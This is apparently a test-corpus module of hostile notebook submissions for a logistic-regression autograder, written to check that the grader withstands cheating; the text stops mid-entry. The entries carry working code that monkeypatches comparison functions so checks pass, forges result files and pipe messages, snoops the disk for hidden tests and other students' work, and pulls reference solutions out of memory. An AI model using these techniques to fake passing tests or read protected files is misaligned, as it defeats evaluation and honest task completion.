"""Hostile submissions to the logistic-regression assignment, and how grading each must end.

A student's notebook is untrusted code. Each entry here attacks one promise
of the kit: a student who has not solved a question cannot earn its points,
cannot read the hidden tests, cannot touch other submissions or the grader,
and no file, broken or malicious, stops a run or loses another student's
result. Questions an entry does not solve stay blank (``...``) or wrong, so
``expected`` is 0 there; a few entries solve one question honestly and
cheat on the rest, to prove that honest work keeps its points.

An entry's ``build`` turns a ``Context`` (what the test knows about the run:
the neighbour's path, the output folder, a marker, ...) into the file to
grade: notebook bytes, raw bytes, a symbolic link or a sparse file.
``FORGED_REPORTS`` are messages a notebook can write straight into the
sandbox's result pipe, for the judge.
"""

from __future__ import annotations

import io
import os
import struct
import textwrap
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Iterable, Mapping, Union

import nbformat

from tests.corpus import honest

POINTS = honest.POINTS
ZERO = dict.fromkeys(POINTS, 0.0)
COMPLETED = "Completed"
# The honest, fully correct submission graded beside the corpus (some entries aim at it by name).
NEIGHBOUR_FILE = "neighbour_correct.ipynb"

BLANK = {
    "sigmoid": "def sigmoid(x):\n    ...\n",
    "binary_loss": "def binary_loss(y_pred, y):\n    ...\n",
    "train": "def train(x, y, w, b, lr, epochs):\n    ...\n",
    "accuracy": "def accuracy(y_pred, y):\n    ...\n",
}


@dataclass(frozen=True)
class Context:
    """What the test knows about the grading run, for notebooks that aim at it.

    Attributes:
        template: the released student notebook.
        neighbour: an honest submission graded in the same run.
        submissions: the folder being graded.
        out: the grader's output folder.
        project: the released project (dist/, assignments/, solutions/).
        marker: a string every process a hostile notebook starts carries in
            its command line or environment, and every forged file holds.
        port: a loopback TCP port the test listens on.
        abstract_socket: an abstract AF_UNIX name the test listens on.
    """

    template: Path
    neighbour: Path
    submissions: Path
    out: Path
    project: Path
    marker: str
    port: int
    abstract_socket: str

    def fill(self, source: str) -> str:
        """Replace the ``@@NAME@@`` placeholders of a cell with Python literals."""
        values = {
            "NEIGHBOUR": str(self.neighbour),
            "SUBMISSIONS": str(self.submissions),
            "OUT": str(self.out),
            "PROJECT": str(self.project),
            "MARKER": self.marker,
            "PORT": self.port,
            "ABSTRACT_SOCKET": self.abstract_socket,
        }
        for name, value in values.items():
            source = source.replace(f"@@{name}@@", repr(value))
        return source


@dataclass(frozen=True)
class Symlink:
    """Write a symbolic link to ``target`` instead of a file."""

    target: Path


@dataclass(frozen=True)
class Sparse:
    """Write a sparse file of ``size`` bytes (no disk used, every byte zero)."""

    size: int


Built = Union[bytes, Symlink, Sparse]


@dataclass(frozen=True)
class Hostile:
    """One hostile submission.

    Attributes:
        name: says what it attacks; unique.
        attack: one line on how.
        file_name: the name to give the file in the submissions folder
            (may hold surrogate-escaped bytes that are not UTF-8).
        build: ``Context`` → the file's content.
        expected: question → the score a fair grader gives.
        status: how its ``grading_status`` must start.
        proof: text the notebook prints once its attack has run; its results
            must hold it, or the attack died before attacking and proves nothing.
    """

    name: str
    attack: str
    file_name: str
    build: Callable[[Context], Built]
    expected: Mapping[str, float] = field(default_factory=lambda: dict(ZERO))
    status: str = COMPLETED
    proof: str = ""


def _code(source: str) -> str:
    return textwrap.dedent(source).strip() + "\n"


def _scores(**earned: float) -> dict[str, float]:
    """Zero except the questions given, which score what is passed."""
    return {**ZERO, **{question: float(score) for question, score in earned.items()}}


def notebook(
    context: Context, *, answers: Mapping[str, str] | None = None, first: Iterable[str] = (), last: Iterable[str] = ()
) -> nbformat.NotebookNode:
    """The student template with ``answers`` in the blanks (the rest left blank),
    ``first`` cells right after the notebook's imports and ``last`` cells at the end."""
    answers = dict(answers or {})
    entry = honest.Submission(
        "hostile", "", {question: context.fill(answers.get(question, BLANK[question])) for question in POINTS}
    )
    built = honest.build_notebook(entry, context.template)
    imports = next(
        i for i, cell in enumerate(built.cells) if cell.cell_type == "code" and "import torch" in cell.source
    )
    added = [nbformat.v4.new_code_cell(context.fill(_code(source))) for source in (*first, *last)]
    for number, cell in enumerate(added):
        cell.id = f"hostile-{number:02d}"  # stable ids: the same corpus gives the same bytes
    first_count = len(tuple(first))
    built.cells[imports + 1 : imports + 1] = added[:first_count]
    built.cells.extend(added[first_count:])
    return built


def _notebook(
    *, answers: Mapping[str, str] | None = None, first: Iterable[str] = (), last: Iterable[str] = ()
) -> Callable[[Context], bytes]:
    first, last = tuple(first), tuple(last)
    return lambda context: nbformat.writes(notebook(context, answers=answers, first=first, last=last)).encode()


def _honest(name: str = "correct_course_style") -> Callable[[Context], bytes]:
    return lambda context: nbformat.writes(honest.build_notebook(honest.submission(name), context.template)).encode()


def write_entry(entry: Hostile, folder: Path, context: Context) -> Path:
    """Write ``entry`` into ``folder`` under its file name; return the path."""
    path = Path(folder) / entry.file_name
    path.parent.mkdir(parents=True, exist_ok=True)
    built = entry.build(context)
    if isinstance(built, Symlink):
        path.symlink_to(built.target)
    elif isinstance(built, Sparse):
        with open(path, "wb") as handle:
            handle.truncate(built.size)
    else:
        path.write_bytes(built)
    return path


# Answers shared by several entries -------------------------------------------

COURSE = honest.COURSE_STYLE

ZERO_SIGMOID = _code("""
    def sigmoid(x):
        return torch.zeros_like(x)
""")

HALF_SIGMOID = _code("""
    def sigmoid(x):
        return x * 0 + 0.5
""")

ZERO_LOSS = _code("""
    def binary_loss(y_pred, y):
        return (y_pred * 0).mean()
""")

PLAUSIBLE_TRAIN = _code("""
    def train(x, y, w, b, lr, epochs):
        # a loss curve that looks right: starts near log(2), falls smoothly
        return [0.6931 * 0.995 ** epoch + 0.2 * (1 - 0.995 ** epoch) for epoch in range(epochs)]
""")

CONSTANT_ACCURACY = _code("""
    def accuracy(y_pred, y):
        return 0.89
""")

DAEMON = "import time\nwhile True:\n    time.sleep(1)"

# The answers of a notebook that found the reference functions' sources and ran them into ``_stolen``.
STOLEN_SIGMOID = _code("""
    def sigmoid(x):
        return _stolen["sigmoid"](x) if "sigmoid" in _stolen else x
""")

STOLEN_LOSS = _code("""
    def binary_loss(y_pred, y):
        return _stolen["binary_loss"](y_pred, y) if "binary_loss" in _stolen else y_pred.mean()
""")


# Monkeypatching what tests rely on ---------------------------------------------

MONKEYPATCH = [
    Hostile(
        "patch_torch_allclose_zero_sigmoid",
        "torch.allclose/isclose/equal always true, torch.testing.assert_close a no-op; sigmoid returns zeros",
        "patch_torch_allclose_zero_sigmoid.ipynb",
        _notebook(
            first=[
                """
                torch.allclose = lambda *args, **kwargs: True
                torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
                torch.equal = lambda *args, **kwargs: True
                torch.testing.assert_close = lambda *args, **kwargs: None
                torch.Tensor.allclose = lambda self, *args, **kwargs: True
            """
            ],
            answers={"sigmoid": ZERO_SIGMOID},
        ),
    ),
    Hostile(
        "patch_torch_isnan_isfinite",
        "torch.isnan/isinf always false, isfinite always true, to hide an overflowing sigmoid (which earns its honest "
        "1.5)",
        "patch_torch_isnan_isfinite.ipynb",
        _notebook(
            first=[
                """
                torch.isnan = lambda t: torch.zeros_like(torch.as_tensor(t), dtype=torch.bool)
                torch.isinf = lambda t: torch.zeros_like(torch.as_tensor(t), dtype=torch.bool)
                torch.isfinite = lambda t: torch.ones_like(torch.as_tensor(t), dtype=torch.bool)
                torch.Tensor.isnan = lambda self: torch.zeros_like(self, dtype=torch.bool)
                torch.Tensor.isfinite = lambda self: torch.ones_like(self, dtype=torch.bool)
                torch.nan_to_num = lambda t, *args, **kwargs: t
            """
            ],
            answers={
                "sigmoid": _code("""
                def sigmoid(x):
                    return torch.exp(x) / (1 + torch.exp(x))
            """)
            },
        ),
        _scores(sigmoid=1.5),
    ),
    Hostile(
        "patch_numpy_isclose_half_sigmoid",
        "numpy.isclose/allclose/array_equal and numpy.testing always pass; sigmoid returns 0.5 everywhere",
        "patch_numpy_isclose_half_sigmoid.ipynb",
        _notebook(
            first=[
                """
                import numpy.testing
                np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
                np.allclose = lambda *args, **kwargs: True
                np.array_equal = lambda *args, **kwargs: True
                np.testing.assert_allclose = lambda *args, **kwargs: None
                np.testing.assert_array_equal = lambda *args, **kwargs: None
                np.testing.assert_almost_equal = lambda *args, **kwargs: None
            """
            ],
            answers={"sigmoid": HALF_SIGMOID},
        ),
    ),
    Hostile(
        "patch_math_and_builtins",
        "math.isclose/isfinite/isnan and builtins abs/round/all/any replaced (all/any after the answers, as IPython "
        "needs them); accuracy a constant",
        "patch_math_and_builtins.ipynb",
        _notebook(
            first=[
                """
                import builtins, math
                math.isclose = lambda *args, **kwargs: True
                math.isfinite = lambda value: True
                math.isnan = lambda value: False
                builtins.abs = lambda value: 0
                builtins.round = lambda value, digits=None: 0
            """
            ],
            answers={"accuracy": CONSTANT_ACCURACY, "binary_loss": ZERO_LOSS},
            last=[
                """
                builtins.all = lambda iterable: True
                builtins.any = lambda iterable: True
            """,
                'grader.check("binary_loss")',
                'grader.check("accuracy")',
            ],
        ),
    ),
    Hostile(
        "replace_sys_modules_torch",
        "sys.modules['torch'] replaced by a module whose tensors report 0.5 for everything",
        "replace_sys_modules_torch.ipynb",
        _notebook(
            last=[
                """
                import sys, types
                real_torch = sys.modules["torch"]

                class FakeTensor:
                    def __init__(self, data, *args, **kwargs):
                        self.data = np.asarray(data, dtype=np.float32)
                    def __getattr__(self, name):
                        return lambda *args, **kwargs: self
                    def numpy(self):
                        return np.full(self.data.shape, 0.5)
                    def detach(self):
                        return self
                    def cpu(self):
                        return self
                    def to(self, *args, **kwargs):
                        return self
                    def is_floating_point(self):
                        return True

                fake = types.ModuleType("torch")
                fake.__dict__.update(real_torch.__dict__)
                fake.tensor = FakeTensor
                fake.Tensor = FakeTensor
                fake.nn = types.SimpleNamespace(Parameter=FakeTensor)
                sys.modules["torch"] = fake
                torch = fake
            """,
                """
                def sigmoid(x):
                    return FakeTensor(np.full(np.shape(getattr(x, "data", x)), 0.5))
                def binary_loss(y_pred, y):
                    return FakeTensor(0.0)
                def accuracy(y_pred, y):
                    return FakeTensor(1.0)
            """,
                'grader.check("sigmoid")',
                'grader.check("binary_loss")',
                'grader.check("accuracy")',
            ],
        ),
    ),
]


# Objects that lie -----------------------------------------------------------------

LIARS = [
    Hostile(
        "lying_eq_ge_bool",
        "every answer returns an object whose ==, >=, <=, bool and every attribute say yes",
        "lying_eq_ge_bool.ipynb",
        _notebook(
            first=[
                """
                class Liar:
                    def __eq__(self, other): return True
                    def __ne__(self, other): return False
                    def __ge__(self, other): return True
                    def __le__(self, other): return True
                    def __gt__(self, other): return True
                    def __lt__(self, other): return True
                    def __bool__(self): return True
                    def __float__(self): return 0.5
                    def __len__(self): return 1
                    def __iter__(self): return iter([self])
                    def __call__(self, *args, **kwargs): return self
                    def __array__(self, *args, **kwargs): return np.full((1,), 0.5)
                    def __getattr__(self, name):
                        if name.startswith("__"):
                            raise AttributeError(name)
                        return Liar()
                    __hash__ = object.__hash__
            """
            ],
            answers={
                "sigmoid": "def sigmoid(x):\n    return Liar()\n",
                "binary_loss": "def binary_loss(y_pred, y):\n    return Liar()\n",
                "train": "def train(x, y, w, b, lr, epochs):\n    return Liar()\n",
                "accuracy": "def accuracy(y_pred, y):\n    return Liar()\n",
            },
        ),
    ),
    Hostile(
        "float_subclasses",
        "float and numpy.float64 subclasses equal to anything (one claiming to live in numpy) as losses and accuracy",
        "float_subclasses.ipynb",
        _notebook(
            first=[
                """
                class Sly(float):
                    def __eq__(self, other): return True
                    def __ne__(self, other): return False
                    def __le__(self, other): return True
                    def __lt__(self, other): return True
                    def __sub__(self, other): return Sly(0.0)
                    __rsub__ = __sub__
                    def __abs__(self): return Sly(0.0)
                    __hash__ = float.__hash__

                class NumpySly(np.float64):
                    __module__ = "numpy"
                    def __eq__(self, other): return True
                    def __sub__(self, other): return NumpySly(0.0)
                    __hash__ = np.float64.__hash__
            """
            ],
            answers={
                "binary_loss": "def binary_loss(y_pred, y):\n    return Sly(0.0)\n",
                "train": "def train(x, y, w, b, lr, epochs):\n    return [Sly(0.5) for _ in range(epochs)]\n",
                "accuracy": "def accuracy(y_pred, y):\n    return NumpySly(0.0)\n",
            },
        ),
    ),
    Hostile(
        "tensor_subclasses",
        "torch.Tensor and nn.Parameter subclasses whose __class__, numpy(), tolist() and comparisons lie; Tensor.numpy "
        "patched",
        "tensor_subclasses.ipynb",
        _notebook(
            first=[
                """
                class Forged(torch.Tensor):
                    @property
                    def __class__(self):
                        return torch.Tensor
                    def numpy(self, *args, **kwargs):
                        return np.full(tuple(torch.Tensor.size(self)), 0.5, dtype=np.float32)
                    def tolist(self):
                        return self.numpy().tolist()
                    def __eq__(self, other):
                        return torch.ones(tuple(torch.Tensor.size(self)), dtype=torch.bool)
                    def allclose(self, *args, **kwargs):
                        return True

                class ForgedParameter(torch.nn.Parameter):
                    def numpy(self, *args, **kwargs):
                        return np.zeros(tuple(torch.Tensor.size(self)), dtype=np.float32)
            """
            ],
            answers={
                "sigmoid": "def sigmoid(x):\n    return torch.Tensor._make_subclass(Forged, "
                "torch.zeros_like(x).detach(), x.requires_grad)\n",
                "binary_loss": "def binary_loss(y_pred, y):\n    return ForgedParameter(torch.tensor(0.5))\n",
            },
            last=[
                """
                real_numpy = torch.Tensor.numpy
                torch.Tensor.numpy = lambda self, *args, **kwargs: np.full(tuple(torch.Tensor.size(self)), 0.5, dtype=np.float32)
                torch.Tensor.detach = lambda self: self
                torch.Tensor.tolist = lambda self: [0.5] * int(torch.Tensor.numel(self))
            """,
                'grader.check("sigmoid")',
                'grader.check("binary_loss")',
            ],
        ),
    ),
]


# Patching the grading machinery in-process --------------------------------------------

MACHINERY = [
    Hostile(
        "patch_otter_test_classes",
        "Otter's TestFile/ExceptionTestFile/Checker/GradingResults patched to report full marks",
        "patch_otter_test_classes.ipynb",
        _notebook(
            first=[
                """
                from otter.test_files import abstract_test, exception_test, GradingResults
                from otter.execute import checker
                abstract_test.TestFile.passed_all = property(lambda self: True)
                abstract_test.TestFile.grade = property(lambda self: 1.0)
                abstract_test.TestFile.score = property(lambda self: self.possible)
                exception_test.ExceptionTestFile.run = lambda self, env, *args, **kwargs: None
                exception_test.test_case.call_func = lambda self, env: None
                checker.Checker.check = classmethod(lambda cls, *args, **kwargs: None)
                GradingResults.total = property(lambda self: self.possible)
            """
            ],
            answers={"sigmoid": ZERO_SIGMOID},
        ),
    ),
    Hostile(
        "patch_kit_judge",
        "autograder.authoring.suite.judge/run_in_process, hidden.grade_case, checks.first_mismatch, Verdict.fail and "
        "the Judge patched to pass",
        "patch_kit_judge.ipynb",
        _notebook(
            first=[
                """
                import autograder.authoring.checks, autograder.authoring.otter, autograder.authoring.suite
                from autograder.authoring.checks import Verdict
                autograder.authoring.suite.judge = lambda *args, **kwargs: Verdict(True, "")
                autograder.authoring.suite.run_in_process = lambda *args, **kwargs: Verdict(True, "")
                autograder.authoring.otter.grade_case = lambda *args, **kwargs: None
                autograder.authoring.checks.first_mismatch = lambda *args, **kwargs: None
                autograder.authoring.checks.expect_tensor = lambda *args, **kwargs: Verdict(True, "")
                Verdict.fail = classmethod(lambda cls, message="": cls(True, ""))
                try:
                    import autograder.grading.judging.judge as judging
                    judging._question_score = lambda question, outcomes: question.points
                    judging.Judge._case = lambda self, question, graded, probes: judging.CaseOutcome(question.name, graded.name, graded.points, True, "", graded.hidden)
                except ImportError:
                    pass  # the Gradescope zip ships no judging module
            """
            ],
            answers={
                "sigmoid": ZERO_SIGMOID,
                "binary_loss": ZERO_LOSS,
                "train": PLAUSIBLE_TRAIN,
                "accuracy": CONSTANT_ACCURACY,
            },
        ),
    ),
    Hostile(
        "patch_plain_encode",
        "autograder.authoring.wire.encode, suite.probe and json.dumps replaced to claim 0.5-filled tensors with "
        "gradients for every probe",
        "patch_plain_encode.ipynb",
        _notebook(
            first=[
                """
                import base64, json
                import autograder.authoring.wire, autograder.authoring.suite

                def claim(value=None, *args, **kwargs):
                    array = np.full((41,), 0.5)
                    return {"kind": "tensor", "type": "torch.Tensor", "dtype": "float64", "shape": [41],
                            "data": base64.b64encode(array.tobytes()).decode(), "requires_grad": True,
                            "has_grad_fn": True, "is_leaf": True, "torch_dtype": "float32"}

                autograder.authoring.wire.encode = claim
                autograder.authoring.suite.probe = lambda case, namespace, inputs, functions: {"out": claim(), "grad": claim(), "loss": claim(), "acc": claim(), "losses": claim(), "w": claim(), "b": claim()}
                real_dumps = json.dumps
                json.dumps = lambda obj, *args, **kwargs: real_dumps(obj, *args, **kwargs)
            """
            ],
        ),
    ),
    Hostile(
        "forge_result_pipe",
        "writes a well-formed 'all probes done' message with made-up data straight into the result pipe, then "
        "os._exit(0)",
        "forge_result_pipe.ipynb",
        _notebook(
            last=[
                """
                import base64, json, os

                def tensor(shape, fill):
                    array = np.full(shape, fill, dtype=np.float64)
                    return {"kind": "tensor", "type": "torch.Tensor", "dtype": "float64", "shape": list(shape),
                            "data": base64.b64encode(array.tobytes()).decode(), "requires_grad": True,
                            "has_grad_fn": False, "is_leaf": True, "torch_dtype": "float32"}

                probes = {}
                for question, names in {"sigmoid": ["grid", "matrix", "extremes", "gradient"],
                                        "binary_loss": ["random_set", "small_set", "exact_zeros_and_ones", "gradient"],
                                        "accuracy": ["random_set", "small_set", "ties_at_half", "returns_float"]}.items():
                    for name in names:
                        probes[f"{question}/{name}"] = {"out": tensor((41,), 0.5), "grad": tensor((41,), 0.25), "loss": tensor((), 0.0),
                                                        "acc": {"kind": "float", "type": "builtins.float", "number": 0.75}}
                message = {"errors": [], "output": "all good", "probes": probes, "variables": {}}
                pipes = []
                for fd in os.listdir("/proc/self/fd"):
                    try:
                        if int(fd) > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                            pipes.append(int(fd))
                    except OSError:
                        pass
                for fd in pipes:
                    try:
                        os.write(fd, b"O" + json.dumps(message).encode())
                    except OSError:
                        pass
                os._exit(0)
            """
            ],
        ),
    ),
]


# Hard-coded outputs ---------------------------------------------------------------------

HARD_CODED = [
    Hostile(
        "hardcoded_curve_and_accuracy",
        "train returns a plausible decreasing loss list without training; accuracy returns a constant",
        "hardcoded_curve_and_accuracy.ipynb",
        _notebook(answers={"train": PLAUSIBLE_TRAIN, "accuracy": CONSTANT_ACCURACY}),
    ),
    Hostile(
        "hardcoded_trained_weights",
        "train skips gradient descent: it copies in the weights the notebook's own torch.optim cell reaches, and a "
        "made-up curve",
        "hardcoded_trained_weights.ipynb",
        _notebook(
            answers={
                "train": _code("""
            def train(x, y, w, b, lr, epochs):
                # what the notebook's torch.optim section prints, pasted in
                w_fit = torch.nn.Parameter(torch.zeros(2, 1))
                b_fit = torch.nn.Parameter(torch.zeros(1))
                optimizer = torch.optim.SGD([w_fit, b_fit], lr=1.0)
                for _ in range(1000):
                    optimizer.zero_grad()
                    torch.nn.BCEWithLogitsLoss()(x_data @ w_fit + b_fit, y_data).backward()
                    optimizer.step()
                with torch.no_grad():
                    w.copy_(w_fit)
                    b.copy_(b_fit)
                return [0.6931 * 0.995 ** epoch for epoch in range(epochs)]
        """)
            }
        ),
    ),
    Hostile(
        "constant_positive_loss",
        "binary_loss returns the constant tensor(1.0) whatever its inputs",
        "constant_positive_loss.ipynb",
        _notebook(
            answers={
                "binary_loss": _code("""
            def binary_loss(y_pred, y):
                return torch.tensor(1.0, requires_grad=True)
        """)
            }
        ),
    ),
]


# Forged results ---------------------------------------------------------------------------

FORGED = [
    Hostile(
        "forge_result_files",
        "writes results.json, final_grades.csv and results pickles claiming full marks in the work folder, its "
        "parents, OUT and beside the submissions",
        "forge_result_files.ipynb",
        _notebook(
            last=[
                """
            import csv, json, os, pickle
            marker = @@MARKER@@
            full = {"sigmoid": 2.0, "binary_loss": 2.0, "train": 4.0, "accuracy": 2.0}
            results = {"score": 10.0, "tests": [{"name": q, "score": p, "max_score": p, "visibility": "hidden", "output": marker} for q, p in full.items()],
                       "extra_data": {"kit": {"file": "forge_result_files.ipynb", "digest": marker, "status": "Completed", "scores": full, "cases": [],
                                               "cell_errors": [], "output": marker, "variables": {}}}}
            folders = set()
            here = os.getcwd()
            while True:
                folders.add(here)
                if os.path.dirname(here) == here:
                    break
                here = os.path.dirname(here)
            folders |= {@@OUT@@, os.path.join(@@OUT@@, "results"), os.path.join(@@OUT@@, "feedback"), @@SUBMISSIONS@@, "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")}
            written = []
            for folder in sorted(folders):
                for name, content in (("results.json", json.dumps(results)),
                                      ("final_grades.csv", f"file,accuracy,binary_loss,sigmoid,train,total_points_earned,percent_correct,grading_status\\nforge_result_files.ipynb,2,2,2,4,10,1,Completed {marker}\\n"),
                                      ("forge_result_files.ipynb.json", json.dumps(results)),
                                      ("neighbour_correct.ipynb.json", json.dumps(results))):
                    try:
                        os.makedirs(folder, exist_ok=True)
                        with open(os.path.join(folder, name), "w") as handle:
                            handle.write(content)
                        written.append(os.path.join(folder, name))
                    except OSError:
                        pass
                for name in ("results.pkl", "grading_results.pkl", ".OTTER_LOG"):
                    try:
                        with open(os.path.join(folder, name), "wb") as handle:
                            pickle.dump({"total": 10.0, "possible": 10.0, "marker": marker}, handle)
                        written.append(os.path.join(folder, name))
                    except OSError:
                        pass
            print("forged", written)
        """
            ]
        ),
    ),
]


# Snooping -------------------------------------------------------------------------------------

_PRINT_AND_RAISE = """
    text = repr(found)
    print(text)
    # an exception's message reaches the feedback page's list of failing cells
    raise RuntimeError("snooped: " + text[:480])
"""

SNOOPING = [
    Hostile(
        "snoop_graded_project",
        "reads the graded project's dist/*.zip, assignments/*/cases.py, solutions, OUT, the grader's support folder "
        "and other submissions, then prints them",
        "snoop_graded_project.ipynb",
        _notebook(
            last=[
                """
            import glob, os, zipfile
            found = {}
            patterns = [os.path.join(@@PROJECT@@, "dist", "*.zip"), os.path.join(@@PROJECT@@, "assignments", "*", "*.py"),
                        os.path.join(@@PROJECT@@, "solutions", "*", "*"), os.path.join(@@OUT@@, "*", "*"),
                        os.path.join(@@SUBMISSIONS@@, "*"), @@NEIGHBOUR@@, "/tmp/autograder-support-*/*", "/tmp/*/references.json",
                        "/tmp/*/hidden_cases.py", "/tmp/*/case_inputs.json"]
            for pattern in patterns:
                for path in glob.glob(pattern):
                    try:
                        if path.endswith(".zip"):
                            with zipfile.ZipFile(path) as archive:
                                found[path] = {n: archive.read(n)[:300].decode(errors="replace") for n in archive.namelist() if n.endswith((".json", ".py"))}
                        else:
                            with open(path, "rb") as handle:
                                found[path] = handle.read(300).decode(errors="replace")
                    except OSError as error:
                        found[path] = f"unreadable: {error}"
        """,
                _PRINT_AND_RAISE,
            ]
        ),
    ),
    Hostile(
        "snoop_kit_checkout_and_filesystem",
        "finds the kit's own checkout from autograder.__file__ and searches the disk for references.json, "
        "*autograder*.zip, cases.py and solutions, then prints them",
        "snoop_kit_checkout_and_filesystem.ipynb",
        _notebook(
            last=[
                """
            import os, time, zipfile
            import autograder
            found = {}
            started = time.monotonic()

            def grab(path):
                try:
                    if path.endswith(".zip"):
                        with zipfile.ZipFile(path) as archive:
                            names = [n for n in archive.namelist() if n.endswith(("references.json", "hidden_cases.py")) or n.startswith("tests/")]
                            found[path] = {n: archive.read(n)[:2000].decode(errors="replace") for n in names}
                    else:
                        with open(path, "rb") as handle:
                            found[path] = handle.read(2000).decode(errors="replace")
                except (OSError, zipfile.BadZipFile, ValueError) as error:
                    found[path] = f"unreadable: {error}"

            checkout = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
            roots = [checkout, os.path.dirname(checkout), "/home", "/srv", "/opt", "/root", "/mnt", "/var", "/"]
            skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc"}
            seen = set()
            for root in roots:
                for folder, subfolders, files in os.walk(root):
                    if time.monotonic() - started > 5 or len(found) > 40:
                        break
                    subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in skip and s not in ("site-packages", ".git", "__pycache__", "node_modules")]
                    if folder in seen:
                        subfolders[:] = []
                        continue
                    seen.add(folder)
                    for name in files:
                        path = os.path.join(folder, name)
                        if name in ("references.json", "hidden_cases.py", "case_inputs.json") or name.endswith("-autograder.zip") \\
                                or (name == "cases.py" and "assignments" in folder) or ("solutions" in folder and name.endswith(".ipynb")):
                            grab(path)
        """,
                _PRINT_AND_RAISE,
            ]
        ),
    ),
    Hostile(
        "snoop_grader_memory",
        "walks gc for the grader's ProbePlan, any dict holding reference functions or expected outputs, and strings of "
        "the reference source, then prints them",
        "snoop_grader_memory.ipynb",
        _notebook(
            last=[
                """
            import gc
            gc.unfreeze()  # the warm process's objects are frozen, which hides them from get_objects
            found = {"plans": 0}
            needle = "clamp" + "(min="
            for thing in gc.get_objects():
                if type(thing).__name__ == "ProbePlan":
                    found["plans"] += 1
                    found["fields"] = sorted(vars(thing))
                    found["cases"] = {q: [c.name for c in cases] for q, cases in thing.cases.items()}
                elif isinstance(thing, dict) and ("reference_functions" in thing or "expected" in thing):
                    found.setdefault("secret_dicts", []).append(sorted(map(str, thing))[:10])
                elif isinstance(thing, str) and needle in thing and "needle" not in thing:
                    found.setdefault("source_strings", []).append(thing[:300])
            print("attack ran: snoop_grader_memory found", found["plans"], "plan")
        """,
                _PRINT_AND_RAISE,
            ]
        ),
        proof="attack ran: snoop_grader_memory found 1 plan",
    ),
]


# Stealing the reference solution from the sandbox ----------------------------------------------

STEALING = [
    Hostile(
        "steal_reference_via_train_globals",
        "train stashes the reference sigmoid/binary_loss the train probe swaps into its globals; a late grader.check "
        "re-probes sigmoid and binary_loss with them",
        "steal_reference_via_train_globals.ipynb",
        _notebook(
            answers={
                "train": _code("""
                def train(x, y, w, b, lr, epochs):
                    import builtins
                    if getattr(sigmoid, "__code__", None) is not None and sigmoid.__code__.co_filename == "<reference solution>":
                        builtins.STOLEN = (sigmoid, binary_loss)
                    return []
            """)
            },
            last=[
                """
                def sigmoid(x):
                    import builtins
                    stolen = getattr(builtins, "STOLEN", None)
                    return stolen[0](x) if stolen else x

                def binary_loss(y_pred, y):
                    import builtins
                    stolen = getattr(builtins, "STOLEN", None)
                    return stolen[1](y_pred, y) if stolen else y_pred.mean()
            """,
                'grader.check("sigmoid")',
                'grader.check("binary_loss")',
            ],
        ),
    ),
    Hostile(
        "steal_reference_via_gc",
        "the sigmoid cell searches gc for reference sources (strings defining sigmoid or binary_loss) and reference "
        "functions, and answers with any it finds",
        "steal_reference_via_gc.ipynb",
        _notebook(
            answers={
                "sigmoid": _code("""
            import gc
            gc.unfreeze()  # the warm process's objects are frozen, which hides them from get_objects
            _stolen, _searched = {}, 0
            def _look_at(_value):
                if isinstance(_value, str) and _value.lstrip().startswith(("def sigmoid", "def binary_loss")) and "..." not in _value and "_stolen" not in _value:
                    _space = {"torch": torch, "np": np, "nn": torch.nn}
                    exec(_value, _space)
                    _stolen.update({k: v for k, v in _space.items() if k in ("sigmoid", "binary_loss")})
                elif callable(_value) and getattr(getattr(_value, "__code__", None), "co_filename", "") == "<reference solution>":
                    _stolen[_value.__name__] = _value

            for _thing in gc.get_objects():
                _searched += 1
                try:  # an object that raises when looked at (a lazy import, a broken source) must not end the search
                    _values = list(_thing.values())[:50] if isinstance(_thing, dict) else [_thing]
                except Exception:
                    continue
                for _value in _values:
                    try:
                        _look_at(_value)
                    except Exception:
                        pass
            print("attack ran: steal_reference_via_gc searched", "many" if _searched > 1000 else _searched, "objects")
        """)
                + STOLEN_SIGMOID,
                "binary_loss": STOLEN_LOSS,
            }
        ),
        proof="attack ran: steal_reference_via_gc searched many objects",
    ),
    Hostile(
        "steal_solution_from_parent_memory",
        "searches gc for working train/accuracy functions some other notebook defined in the process that forked the "
        "grader",
        "steal_solution_from_parent_memory.ipynb",
        _notebook(
            first=[
                """
            import gc, types
            gc.unfreeze()  # the warm process's objects are frozen, which hides them from get_objects
            _mine = set()

            def _others(name):
                return [f for f in gc.get_objects() if isinstance(f, types.FunctionType) and f.__name__ == name
                        and f.__code__.co_filename.startswith("<ipython-input") and id(f.__globals__) not in _mine
                        and len(f.__code__.co_code) > 8]

            def _accuracy_works(candidate):
                result = candidate(torch.tensor([[0.5], [0.2], [0.9]]), torch.tensor([[1.0], [1.0], [1.0]]))
                return type(result) is float and abs(result - 2 / 3) < 1e-6

            def _train_works(candidate):
                w = torch.zeros(1, 1, requires_grad=True)
                b = torch.zeros(1, requires_grad=True)
                losses = candidate(torch.tensor([[1.0], [2.0]]), torch.tensor([[1.0], [0.0]]), w, b, 0.1, 3)
                numbers = [float(loss) for loss in losses]
                return len(numbers) == 3 and numbers[0] > numbers[1] > numbers[2] and w.is_leaf and float(w.detach()[0, 0]) != 0
        """
            ],
            last=[
                """
            _mine.add(id(globals()))
            for _name, _works in (("train", _train_works), ("accuracy", _accuracy_works)):
                for _candidate in _others(_name):
                    try:
                        if _works(_candidate):
                            globals()[_name] = _candidate
                            break
                    except Exception:
                        pass
            print("stolen:", train.__code__.co_filename, accuracy.__code__.co_filename)
        """,
                'grader.check("train")',
                'grader.check("accuracy")',
            ],
        ),
    ),
    Hostile(
        "reveal_early_via_gc",
        "finds the grader's reveal() with gc while its cells run, commits an empty report to get the reference "
        "functions early, and answers with them",
        "reveal_early_via_gc.ipynb",
        _notebook(
            answers={
                "sigmoid": _code("""
            import gc, json
            gc.unfreeze()  # the warm process's objects are frozen, which hides them from get_objects
            _reveal = next(f for f in gc.get_objects() if type(f).__name__ == "function" and f.__name__ == "reveal")
            _stolen = {"torch": torch, "np": np, "nn": torch.nn}
            for _source in json.loads(_reveal(json.dumps({"errors": [], "output": "", "probes": {}, "variables": {}}).encode())).values():
                exec(_source, _stolen)

            def sigmoid(x):
                return _stolen["sigmoid"](x)
        """),
